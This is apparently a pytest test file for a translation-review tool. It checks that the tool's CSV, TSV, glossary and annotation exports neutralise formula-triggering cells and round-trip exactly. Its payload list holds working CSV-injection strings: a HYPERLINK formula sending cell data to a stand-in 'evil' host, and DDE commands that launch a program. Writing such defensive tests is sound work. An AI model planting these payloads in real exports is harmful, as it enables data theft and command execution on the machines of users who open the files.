"""CSV/spreadsheet injection: every CSV the project writes neutralises cells a spreadsheet would run
as a formula (first character = + - @ tab CR), through one shared helper, and our own readers undo
it, so findings -> suppressions, glossary export -> import and annotation export -> import all
round-trip exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from review_app import safety
from review_app.checks import load_suppressions
from review_app.cli.main import main
from review_app.glossary import Glossary, Term, glossary_to_csv, load_glossary
from review_app.glossary.csvfile import parse_glossary_csv
from review_app.review import ReviewStore
from review_app.review import exchange
from review_app.safety import FORMULA_TRIGGERS, is_neutral, neutralise_cell, restore_cell
from review_app.scoring import export

PAYLOADS = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1", "'=already quoted", "''@twice", "-based", "plain", "", "a=b"]


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def test_one_shared_helper():
    assert export.neutralise_cell is safety.neutralise_cell
    assert exchange.neutralise_cell is safety.neutralise_cell and exchange.restore_cell is safety.restore_cell
    import review_app.checks.model as checks_model
    import review_app.cli.check as check_cli
    import review_app.glossary.csvfile as glossary_csv

    for module in (checks_model, check_cli, glossary_csv):
        for name in ("neutralise_cell", "restore_cell"):
            if hasattr(module, name):
                assert getattr(module, name) is getattr(safety, name), (module, name)
    assert not hasattr(check_cli, "neutralise") and not hasattr(checks_model, "_unneutralise")


@pytest.mark.parametrize("value", PAYLOADS)
def test_neutralise_and_restore(value):
    out = neutralise_cell(value)
    assert is_neutral(out) and restore_cell(out) == value
    if value.startswith(FORMULA_TRIGGERS):
        assert out == "'" + value


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab ")), max_size=8) | st.text(max_size=8))
def test_round_trip_of_any_text(value):
    assert restore_cell(neutralise_cell(value)) == value
    assert is_neutral(neutralise_cell(value))


def test_non_strings_are_left_alone():
    assert neutralise_cell(-1.5) == -1.5 and neutralise_cell(None) is None and restore_cell(3) == 3


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_score_rows_csv():
    """Text cells are neutralised; numbers (a negative one is a number, not a formula) are written as numbers."""
    rows = [{"system": p, "segment": i + 1, "BLEU": -0.5 if i else 12.5} for i, p in enumerate(PAYLOADS)]
    text = export.rows_to_csv(rows)
    assert all(is_neutral(c) or is_number(c) for c in cells(text))
    assert "'-2+3" in text and ",-0.5" in text


def test_score_cli_csv(tmp_path, capsys):
    ref = tmp_path / "ref.en"
    ref.write_text("The cat sat.\n", encoding="utf-8")
    hyp = tmp_path / "=HYPERLINK(1).en"
    hyp.write_text("The cat sat.\n", encoding="utf-8")
    out = tmp_path / "scores.csv"
    for level in ("corpus", "segment"):
        assert main(["score", "--hyp", str(hyp), "--ref", str(ref), "--format", "csv", "--level", level,
                     "--out", str(out), "--no-cache", "--jobs", "1", "-m", "bleu"]) == 0
        text = out.read_text(encoding="utf-8")
        assert "'=HYPERLINK(1)" in text and all(is_neutral(c) for c in cells(text))
    capsys.readouterr()


GLOSSARY = Glossary(terms=(
    Term("@Home"), Term("+Plus", variants=("=eq",)), Term("-based", variants=("-Based2",), note="=1+1"),
    Term("Mars", source="火星", variants=("-Mars-",), note="'=quoted already"),
))


def check_findings(tmp_path, capsys, *extra):
    mt = tmp_path / "mt.en"
    mt.write_text("I use @home daily.\nA +plus and =eq here.\nIt is -based now, -Based2.\nTo -Mars- we go\n",
                  encoding="utf-8")
    gl = tmp_path / "g.csv"
    gl.write_text(glossary_to_csv(GLOSSARY), encoding="utf-8")
    out = tmp_path / "findings.csv"
    code = main(["check", "--hyp", str(mt), "--glossary", str(gl), "--format", "csv", "--out", str(out), *extra])
    capsys.readouterr()
    assert code == 0
    return out


def test_findings_csv_is_neutralised_and_works_as_a_suppression_file(tmp_path, capsys):
    out = check_findings(tmp_path, capsys)
    text = out.read_text(encoding="utf-8")
    assert all(is_neutral(c) for c in cells(text))
    assert "'@home" in text and "'=eq" in text and "'-Mars-" in text
    suppressions = load_suppressions(out)
    assert {s.text for s in suppressions} >= {"@home", "=eq", "-Mars-", "-Based2"}
    again = check_findings(tmp_path, capsys, "--suppressions", str(out))
    assert len(list(csv.reader(io.StringIO(again.read_text(encoding="utf-8"))))) == 1  # header only


def test_glossary_csv_export_is_neutralised_and_round_trips(tmp_path, capsys):
    text = glossary_to_csv(GLOSSARY)
    assert all(is_neutral(c) for c in cells(text))
    assert parse_glossary_csv(text).terms == GLOSSARY.terms
    tsv = glossary_to_csv(GLOSSARY, delimiter="\t")
    assert all(is_neutral(c) for c in cells(tsv, "\t"))
    assert parse_glossary_csv(tsv, delimiter="\t").terms == GLOSSARY.terms


@pytest.mark.parametrize("out_name", ["back.csv", "back.tsv"])
def test_glossary_cli_round_trip_through_tbx(tmp_path, capsys, out_name):
    source = tmp_path / "g.csv"
    source.write_text(glossary_to_csv(GLOSSARY), encoding="utf-8")
    tbx = tmp_path / "g.tbx"
    assert main(["glossary", "export", str(source), "--out", str(tbx)]) == 0
    back = tmp_path / out_name
    assert main(["glossary", "import", str(tbx), "--out", str(back)]) == 0
    capsys.readouterr()
    delimiter = "\t" if out_name.endswith(".tsv") else ","
    assert all(is_neutral(c) for c in cells(back.read_text(encoding="utf-8"), delimiter))
    assert load_glossary(back).terms == load_glossary(source).terms


def test_annotation_export_is_neutralised_and_round_trips(tmp_path):
    with ReviewStore(f"sqlite:///{tmp_path / 'r.sqlite3'}") as store:
        for n, payload in enumerate(PAYLOADS, 1):
            mt = payload + " tail"
            store.add_annotation("c", "=sys", n, start=0, end=len(payload), text=payload, category="Other",
                                 severity="minor", rater="@rater", comment=payload, mt_text=mt)
        csv_path = tmp_path / "a.csv"
        text = store.export_annotations_csv("c", csv_path)
        assert all(is_neutral(c) for c in cells(text))
        json_text = store.export_annotations_json("c")
        assert json.loads(json_text)[0]["comment"] == PAYLOADS[0]  # JSON is not for spreadsheets: unchanged
        with ReviewStore(f"sqlite:///{tmp_path / 'r2.sqlite3'}") as other:
            assert other.import_annotations_file("c", csv_path, importer="x") == len(PAYLOADS)
            assert [(a.text, a.comment, a.rater, a.system) for a in other.annotations("c")] == \
                   [(a.text, a.comment, a.rater, a.system) for a in store.annotations("c")]


@settings(max_examples=300)
@given(st.lists(st.lists(st.text(alphabet=st.sampled_from(list("ab ,\t\"'=+-@\r\n\u2028")), max_size=6),
                         min_size=1, max_size=4), max_size=4),
       st.sampled_from([",", "\t"]), st.sampled_from(["\n", "\r\n"]))
def test_csv_text_reads_back_as_written_and_never_splits_a_row(rows, delimiter, lineterminator):
    text = safety.csv_text(rows, delimiter=delimiter, lineterminator=lineterminator)
    back = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert back == [[neutralise_cell(cell) for cell in row] for row in rows]
    assert all(is_neutral(cell) for row in back for cell in row)
    if not any("\r" in cell for row in rows for cell in row):  # same bytes as csv.writer otherwise
        buffer = io.StringIO(newline="")
        csv.writer(buffer, delimiter=delimiter, lineterminator=lineterminator).writerows(
            [[neutralise_cell(cell) for cell in row] for row in rows])
        assert text == buffer.getvalue()


def test_a_carriage_return_cannot_start_a_new_formula_row():
    """csv.writer with "\\n" line ends leaves a bare CR unquoted; a reader then sees a new row '=1+1'."""
    for text in (export.rows_to_csv([{"system": "x\r=1+1"}]), glossary_to_csv(Glossary(terms=(Term("a\r=1+1"),)))):
        assert all(is_neutral(c) for c in cells(text))
        assert len(list(csv.reader(io.StringIO(text, newline="")))) == 2
